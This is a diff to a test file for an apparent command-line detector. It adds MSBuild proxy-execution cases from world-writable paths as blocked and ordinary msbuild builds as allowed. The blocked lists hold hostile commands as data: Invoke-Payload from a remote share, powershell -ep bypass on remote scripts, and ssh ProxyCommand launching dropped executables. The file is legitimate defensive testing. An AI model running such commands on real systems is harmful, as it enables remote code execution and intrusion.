@@ -79,6 +79,10 @@ const blocked: Array<[string, Shell, string]> = [
   ['Import-Module \\\\198.51.100.7\\s\\m.psm1; Invoke-Payload', 'powershell', 'proxy.network-share.remote'],
   ['powershell -ep bypass -File \\\\10.1.2.3\\s\\p.ps1', 'cmd', 'proxy.network-share.remote'],
   ['cscript \\\\live.example.net\\DavWWWRoot\\p.vbs', 'cmd', 'proxy.network-share.remote'],
+  // msbuild building a project staged where every user can write
+  ['C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\build.csproj', 'cmd', 'proxy.msbuild.staged'],
+  ['msbuild.exe %TEMP%\\x.proj', 'cmd', 'proxy.msbuild.staged'],
+  ['& "$env:WINDIR\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe" $env:TEMP\\p.xml', 'powershell', 'proxy.msbuild.inline'],
   // ssh starting a local program instead of relaying
   ['ssh -o ProxyCommand=calc.exe .', 'cmd', 'proxy.ssh.command'],
   ['ssh -o ProxyCommand="cmd /c C:\\Users\\Public\\p.exe" .', 'cmd', 'proxy.ssh.command'],
@@ -96,6 +100,8 @@ const flagged: Array<[string, Shell, string]> = [
 ];
 
 const allowed: Array<[string, Shell]> = [
+  ['msbuild C:\\Users\\alice\\source\\repos\\App\\App.sln /p:Configuration=Release', 'cmd'],
+  ['msbuild /t:Build C:\\src\\App\\App.csproj', 'cmd'],
   ['ssh -o ProxyCommand="ssh -W %h:%p bastion.example.com" db01', 'bash'],
   ["ssh -o 'ProxyCommand nc -X connect -x proxy.example.com:3128 %h %p' host1", 'bash'],
   ['ssh -o ProxyCommand="exec ssh -W %h:%p jump" host1', 'bash'],
